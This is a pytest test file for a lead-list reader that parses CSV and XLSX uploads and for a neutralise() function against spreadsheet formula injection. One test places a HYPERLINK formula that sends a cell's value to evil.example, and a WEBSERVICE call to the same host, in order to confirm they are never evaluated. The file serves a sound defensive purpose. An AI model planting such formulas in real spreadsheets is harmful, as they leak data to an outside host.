"""campaigns.files: reading uploaded lead lists (CSV and XLSX), and neutralise().

Row numbers are file records (header included, blank records counted but not
yielded, a quoted multi-line cell is one record): the row number Excel shows.
"""

import codecs
import datetime as dt
import io
import os
import random
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from campaigns.files import FileError, Table, neutralise, open_table
from core.errors import InputError


def write(tmp_path, name, data):
    p = tmp_path / name
    p.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return str(p)


def read(path, **kw):
    t = open_table(path, **kw)
    return t, list(t.rows)


def fails(path, *fragments, **kw):
    with pytest.raises(FileError) as ei:
        t = open_table(path, **kw)
        list(t.rows)
    msg = str(ei.value)
    assert os.path.basename(path) in msg
    for f in fragments:
        assert f in msg, msg
    return msg


LEADS = [["phone", "name", "city"], ["2125550100", "Ann", "New York"], ["3125550101", "Bob", "Chicago"]]


# ----------------------------------------------------------------------------- delimiters


@pytest.mark.parametrize("d", [",", ";", "\t", "|"])
def test_each_delimiter(tmp_path, d):
    p = write(tmp_path, "leads.csv", "".join(d.join(r) + "\n" for r in LEADS))
    t, rows = read(p)
    assert (t.kind, t.delimiter, t.encoding) == ("csv", d, "utf-8")
    assert t.header == LEADS[0]
    assert rows == [(2, LEADS[1]), (3, LEADS[2])]


def test_semicolon_file_with_decimal_commas(tmp_path):
    p = write(tmp_path, "eu.csv", "name;amount;phone\nAnn;1,5;0301234567\nBob;22,75;0309876543\nCem;3;0301111111\n")
    t, rows = read(p)
    assert t.delimiter == ";"
    assert rows[0] == (2, ["Ann", "1,5", "0301234567"])


def test_delimiter_inside_quotes_does_not_count(tmp_path):
    # Every data row has two quoted commas; the real delimiter is the tab.
    body = "phone\tname\n" + "".join(f'212555010{i}\t"Smith, John, Jr"\n' for i in range(5))
    t, rows = read(write(tmp_path, "q.tsv", body))
    assert t.delimiter == "\t"
    assert rows[0] == (2, ["2125550100", "Smith, John, Jr"])


def test_excel_sep_line(tmp_path):
    t, rows = read(write(tmp_path, "sep.csv", "sep=|\nphone|name, full\n2125550100|Doe, Jane\n"))
    assert t.delimiter == "|"
    assert t.header == ["phone", "name, full"]
    assert rows == [(3, ["2125550100", "Doe, Jane"])]


def test_single_column(tmp_path):
    t, rows = read(write(tmp_path, "phones.csv", "phone\n2125550100\n(312) 555-0101\n+44 20 7946 0958\n"))
    assert t.header == ["phone"]
    assert [r for _, r in rows] == [["2125550100"], ["(312) 555-0101"], ["+44 20 7946 0958"]]


def test_quoted_fields_with_embedded_newline_delimiter_and_quotes(tmp_path):
    data = 'phone,notes,name\n2125550100,"line one\nline two, with comma","Ann ""Nan"" Lee"\n3125550101,plain,Bob\n'
    t, rows = read(write(tmp_path, "q.csv", data))
    assert t.delimiter == ","
    assert rows == [(2, ["2125550100", "line one\nline two, with comma", 'Ann "Nan" Lee']),
                    (3, ["3125550101", "plain", "Bob"])]


def test_space_after_delimiter_and_quoted(tmp_path):
    t, rows = read(write(tmp_path, "s.csv", 'phone, name\n2125550100, "Doe, Jane"\n'))
    assert t.header == ["phone", "name"]
    assert rows == [(2, ["2125550100", "Doe, Jane"])]


@pytest.mark.parametrize("eol", ["\n", "\r\n", "\r"])
def test_line_endings(tmp_path, eol):
    t, rows = read(write(tmp_path, "eol.csv", eol.join(",".join(r) for r in LEADS) + eol))
    assert rows == [(2, LEADS[1]), (3, LEADS[2])]


# ----------------------------------------------------------------------------- encodings

CSV_TEXT = "phone;name\n2125550100;Müller\n3125550101;Zoë Ø €\n"
EXPECTED = [(2, ["2125550100", "Müller"]), (3, ["3125550101", "Zoë Ø €"])]


@pytest.mark.parametrize("data, encoding", [
    (CSV_TEXT.encode("utf-8"), "utf-8"),
    (codecs.BOM_UTF8 + CSV_TEXT.encode("utf-8"), "utf-8-sig"),
    (codecs.BOM_UTF16_LE + CSV_TEXT.encode("utf-16-le"), "utf-16"),
    (codecs.BOM_UTF16_BE + CSV_TEXT.encode("utf-16-be"), "utf-16"),
    (CSV_TEXT.encode("utf-16-le"), "utf-16-le"),
    (CSV_TEXT.encode("utf-16-be"), "utf-16-be"),
    (CSV_TEXT.encode("utf-32"), "utf-32"),
    (CSV_TEXT.encode("cp1252"), "cp1252"),
], ids=["utf8", "utf8-bom", "utf16le-bom", "utf16be-bom", "utf16le-nobom", "utf16be-nobom", "utf32", "cp1252"])
def test_encodings(tmp_path, data, encoding):
    t, rows = read(write(tmp_path, "enc.csv", data))
    assert t.encoding == encoding
    assert t.header == ["phone", "name"]  # no BOM left in the first name
    assert rows == EXPECTED


def test_latin1_bytes_muller(tmp_path):
    t, rows = read(write(tmp_path, "latin.csv", b"phone,name\n2125550100,M\xfcller\n"))
    assert t.encoding == "cp1252"  # cp1252 = Latin-1 for every printable Latin-1 byte
    assert rows == [(2, ["2125550100", "Müller"])]


def test_cp1252_undefined_bytes_read_as_latin1(tmp_path):
    t, rows = read(write(tmp_path, "x.csv", b"phone,name\n2125550100,a\x81b\n"))
    assert rows == [(2, ["2125550100", "a\x81b"])]


def test_non_utf8_bytes_after_the_sample_do_not_fail(tmp_path):
    # 1.5 MB of ASCII, then a cp1252 name: the sample says UTF-8, the tail is not.
    lines = [f"{2125550000 + i},Name{i}\n" for i in range(80_000)]
    data = ("phone,name\n" + "".join(lines)).encode() + b"4155550100,M\xfcller\n"
    assert len(data) > 1 << 20
    t, rows = read(write(tmp_path, "mixed.csv", data))
    assert t.encoding == "utf-8"
    assert rows[-1] == (80_002, ["4155550100", "Müller"])


def test_mostly_utf8_with_a_stray_byte(tmp_path):
    t, rows = read(write(tmp_path, "m.csv", "phone,name\n1,Müller\n2,Zoë\n3,Ørsted\n".encode() + b"4,caf\xe9\n"))
    assert t.encoding == "utf-8"
    assert [r[1] for _, r in rows] == ["Müller", "Zoë", "Ørsted", "café"]


# ----------------------------------------------------------------------------- empty / header only


@pytest.mark.parametrize("data", [b"", b"   \n\n \t\r\n", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, b",,,\n,,\n\n"],
                         ids=["empty", "whitespace", "bom-only", "utf16-bom-only", "only-delimiters"])
def test_empty(tmp_path, data):
    p = write(tmp_path, "leads.csv", data)
    assert fails(p) == "leads.csv is empty"


@pytest.mark.parametrize("data", ["phone,name\n", "phone,name", "\n\nphone,name\n\n,\n  \n"])
def test_header_only(tmp_path, data):
    p = write(tmp_path, "leads.csv", data)
    assert fails(p) == "leads.csv has a header but no data rows"


def test_missing_file_and_folder(tmp_path):
    fails(str(tmp_path / "nope.csv"), "does not exist")
    os.mkdir(tmp_path / "dir.csv")
    fails(str(tmp_path / "dir.csv"), "folder")


def test_file_error_is_an_input_error():
    assert issubclass(FileError, InputError)
    assert FileError("x").code == InputError.code


# ----------------------------------------------------------------------------- binary


def test_binary_junk(tmp_path):
    rng = random.Random(7)
    junk = bytes(rng.getrandbits(8) for _ in range(4096))
    fails(write(tmp_path, "junk.csv", junk), "looks like a binary file, not CSV or XLSX")


def test_binary_with_many_nuls(tmp_path):
    data = b"".join(i.to_bytes(4, "little") for i in range(2000))
    fails(write(tmp_path, "ints.csv", data), "looks like a binary file, not CSV or XLSX")


def test_control_characters(tmp_path):
    fails(write(tmp_path, "ctl.csv", bytes(range(1, 32)) * 50), "looks like a binary file")


@pytest.mark.parametrize("data, what", [
    (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "PDF"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64), "PNG"),
    (b"\x7fELF\x02\x01\x01" + bytes(100), "ELF"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), ".xls"),
], ids=["pdf", "png", "elf", "xls"])
def test_known_binaries(tmp_path, data, what):
    fails(write(tmp_path, "leads.csv", data), "looks like a binary file, not CSV or XLSX", what)


def test_pdf_with_an_ascii_first_kilobyte(tmp_path):
    data = b"%PDF-1.7\n" + b"% plain ascii comment line\n" * 100
    fails(write(tmp_path, "report.pdf", data), "looks like a binary file", "PDF")


def test_html_saved_as_xls(tmp_path):
    fails(write(tmp_path, "export.xls", "<html><body><table><tr><td>phone</td></tr></table></body></html>"),
          "web page", "save it as .xlsx or CSV")


_PIECES = st.sampled_from([b",", b";", b"\t", b"|", b'"', b"\n", b"\r\n", b"\r", b" ", b"\x00", b"\xff\xfe",
                           b"\xef\xbb\xbf", b"M\xfcller", "Zoë".encode(), b"2125550100", b"phone", b"PK\x03\x04",
                           b"%PDF-", b"sep=;"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.one_of(st.binary(max_size=400), st.lists(_PIECES, max_size=40).map(b"".join)))
def test_any_bytes_give_rows_or_a_file_error(tmp_path, data):
    p = write(tmp_path, "fuzz.csv", data)
    try:
        t = open_table(p)
        width = len(t.header)
        for n, row in t.rows:
            assert n >= 2 and len(row) >= width and all(isinstance(c, str) for c in row)
        assert t.progress() == 1.0
    except FileError as e:
        assert "fuzz.csv" in str(e)


# ----------------------------------------------------------------------------- rows


def test_row_numbers_blank_rows_and_multiline_records(tmp_path):
    data = ("phone,name\n"          # record 1
            "\n"                    # 2 blank
            "2125550100,Ann\n"      # 3
            ",\n"                   # 4 blank (only a delimiter)
            '3125550101,"Bob\n'     # 5 (two lines, one record)
            'Smith"\n'
            "   \n"                 # 6 blank (whitespace)
            "4155550102,Cy\n")      # 7
    t, rows = read(write(tmp_path, "n.csv", data))
    assert [n for n, _ in rows] == [3, 5, 7]
    assert rows[1][1] == ["3125550101", "Bob\nSmith"]


def test_blank_lines_before_header(tmp_path):
    t, rows = read(write(tmp_path, "b.csv", "\n\nphone\n2125550100\n"))
    assert t.header == ["phone"]
    assert rows == [(4, ["2125550100"])]


def test_short_rows_padded_long_rows_keep_extras(tmp_path):
    t, rows = read(write(tmp_path, "r.csv", "phone,name,city\n2125550100\n3125550101,Bob,LA,extra\n4155550102,Cy,SF,,\n"))
    assert rows == [(2, ["2125550100", "", ""]),
                    (3, ["3125550101", "Bob", "LA", "extra"]),
                    (4, ["4155550102", "Cy", "SF"])]  # trailing empty extras are dropped


def test_header_cleaning(tmp_path):
    t, _ = read(write(tmp_path, "h.csv", " phone ,,name,phone,Phone,phone_2,\n1,2,3,4,5,6,7\n"))
    assert t.header == ["phone", "column_2", "name", "phone_3", "Phone", "phone_2", "column_7"]
    assert len(set(t.header)) == len(t.header)


def test_cells_are_not_stripped_or_converted(tmp_path):
    t, rows = read(write(tmp_path, "c.csv", "phone,link\n002125550100 ,=HYPERLINK(\"http://x\";\"y\")\n"))
    assert rows == [(2, ["002125550100 ", '=HYPERLINK("http://x";"y")'])]


def test_rows_are_lazy_and_progress_reaches_one(tmp_path):
    data = "phone,name\n" + "".join(f"{2125550000 + i},Lead {i}\n" for i in range(200_000))
    p = write(tmp_path, "big.csv", data)
    t = open_table(p)
    assert isinstance(t, Table) and t.size_bytes == len(data)
    assert iter(t.rows) is t.rows
    first = next(t.rows)
    assert first == (2, ["2125550000", "Lead 0"])
    early = t.progress()
    assert 0 < early < 0.5
    seen, last = 1, early
    for n, row in t.rows:
        seen += 1
        p_now = t.progress()
        assert last <= p_now <= 1.0
        last = p_now
    assert seen == 200_000 and n == 200_001
    assert t.progress() == 1.0


def test_close_early_releases_the_file(tmp_path):
    p = write(tmp_path, "c.csv", "phone\n1\n2\n3\n")
    with open_table(p) as t:
        next(t.rows)
    assert list(t.rows) == []


def test_unclosed_quote_is_a_clear_error(tmp_path):
    data = 'phone,name\n2125550100,"Ann\n' + "3125550101,Bob\n" * 20_000
    msg = fails(write(tmp_path, "q.csv", data), "row 2", "never closed")
    assert "Traceback" not in msg


def test_type_detected_by_content_not_extension(tmp_path):
    t, rows = read(write(tmp_path, "really-a-csv.xlsx", "phone\n2125550100\n"))
    assert t.kind == "csv"
    p = tmp_path / "really-an-xlsx.csv"
    wb = openpyxl.Workbook()
    wb.active.append(["phone"])
    wb.active.append([2125550100])
    wb.save(p)
    t, rows = read(str(p))
    assert (t.kind, t.encoding, t.delimiter) == ("xlsx", None, None)
    assert rows == [(2, ["2125550100"])]


# ----------------------------------------------------------------------------- xlsx


@pytest.fixture
def workbook(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Leads"
    ws.append(["phone", "name", "link", "callback", "score", None, None])  # trailing empty header cells
    ws.append([2125550100, "Ann", '=HYPERLINK("http://x","y")', dt.date(2024, 3, 5), 1.5])
    ws.append([2125550101.0, "Bob", None, dt.datetime(2024, 3, 5, 14, 30), 0.1 + 0.2])
    ws.append([])                                                      # blank row 4
    ws.append([7700900123, "=1+1", "-2", dt.datetime(2024, 1, 2), 1e20])
    ws["A5"].number_format = "00000000000"                             # UK number kept as 0-padded
    ws.append([True, 12, 4.5e-7])
    ws.append(["3125550102", "Cy", None, None, None, None, None, "extra"])
    other = wb.create_sheet("Other list")
    other.append(["phone", "name"])
    other.append([4155550100, "Dee"])
    wb.create_sheet("Empty")
    p = tmp_path / "leads.xlsx"
    wb.save(p)
    return str(p)


def test_xlsx_values(workbook):
    t, rows = read(workbook)
    assert (t.kind, t.encoding, t.delimiter) == ("xlsx", None, None)
    assert t.header == ["phone", "name", "link", "callback", "score"]
    assert rows == [
        (2, ["2125550100", "Ann", '=HYPERLINK("http://x","y")', "2024-03-05", "1.5"]),
        (3, ["2125550101", "Bob", "", "2024-03-05T14:30:00", "0.3"]),
        (5, ["07700900123", "=1+1", "-2", "2024-01-02", "100000000000000000000"]),
        (6, ["TRUE", "12", "0.00000045", "", ""]),
        (7, ["3125550102", "Cy", "", "", "", "", "", "extra"]),
    ]
    assert t.progress() == 1.0


def test_xlsx_formula_is_never_evaluated(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.append(["phone", "link"])
    wb.active.append(["2125550100", '=HYPERLINK("http://evil.example/?"&A2,"click")'])
    wb.active.append(["3125550101", "=WEBSERVICE(\"http://evil.example\")"])
    p = tmp_path / "f.xlsx"
    wb.save(p)
    _, rows = read(str(p))
    assert rows[0][1][1] == '=HYPERLINK("http://evil.example/?"&A2,"click")'
    assert rows[1][1][1] == '=WEBSERVICE("http://evil.example")'


def test_xlsx_second_sheet_by_name(workbook):
    t, rows = read(workbook, sheet="Other list")
    assert t.header == ["phone", "name"]
    assert rows == [(2, ["4155550100", "Dee"])]


def test_xlsx_sheet_name_is_forgiving_about_case_and_spaces(workbook):
    t, rows = read(workbook, sheet=" other LIST ")
    assert rows == [(2, ["4155550100", "Dee"])]


def test_xlsx_unknown_sheet(workbook):
    msg = fails(workbook, "no sheet named 'Nope'", "'Leads', 'Other list', 'Empty'", sheet="Nope")
    assert msg.startswith("leads.xlsx")


def test_xlsx_empty_sheet(workbook):
    fails(workbook, "is empty", "'Empty'", sheet="Empty")


def test_xlsx_header_only(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.append(["phone", "name"])
    p = tmp_path / "h.xlsx"
    wb.save(p)
    assert fails(str(p)) == "h.xlsx has a header but no data rows"


def test_xlsx_progress(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.append(["phone"])
    for i in range(100):
        wb.active.append([2125550000 + i])
    p = tmp_path / "p.xlsx"
    wb.save(p)
    t = open_table(str(p))
    values = []
    for _ in t.rows:
        values.append(t.progress())
    assert values == sorted(values) and values[0] < 0.1 and values[-1] < 1.0
    assert t.progress() == 1.0


def test_corrupt_xlsx(tmp_path, workbook):
    data = open(workbook, "rb").read()
    fails(write(tmp_path, "cut.xlsx", data[: len(data) // 2]), "damaged")
    fails(write(tmp_path, "pk.xlsx", b"PK\x03\x04" + bytes(range(256)) * 4), "damaged")


def test_xlsx_with_broken_sheet_xml(tmp_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        src = tmp_path / "ok.xlsx"
        wb = openpyxl.Workbook()
        wb.active.append(["phone"])
        wb.active.append([1])
        wb.save(src)
        with zipfile.ZipFile(src) as zin:
            for item in zin.infolist():
                data = zin.read(item)
                if item.filename == "xl/worksheets/sheet1.xml":
                    data = data[: len(data) // 2]
                out.writestr(item, data)
    p = write(tmp_path, "broken.xlsx", buf.getvalue())
    fails(p, "damaged")


def test_zip_that_is_not_xlsx(tmp_path):
    p = tmp_path / "leads.zip"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("leads.csv", "phone\n2125550100\n")
    fails(str(p), "ZIP archive, not an XLSX", "leads.csv")


def test_docx_is_not_xlsx(tmp_path):
    p = tmp_path / "leads.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    fails(str(p), "Word document")


# ----------------------------------------------------------------------------- neutralise


@pytest.mark.parametrize("cell, out", [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("+12125550100", "'+12125550100"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"),
    ("2125550100", "2125550100"),
    ("Ann = Bob", "Ann = Bob"),
    (" =1", "' =1"),  # a leading space is no protection (OWASP; see test_hostile_lists)
    ("'=1", "'=1"),
    ("", ""),
    (None, ""),
])
def test_neutralise(cell, out):
    assert neutralise(cell) == out
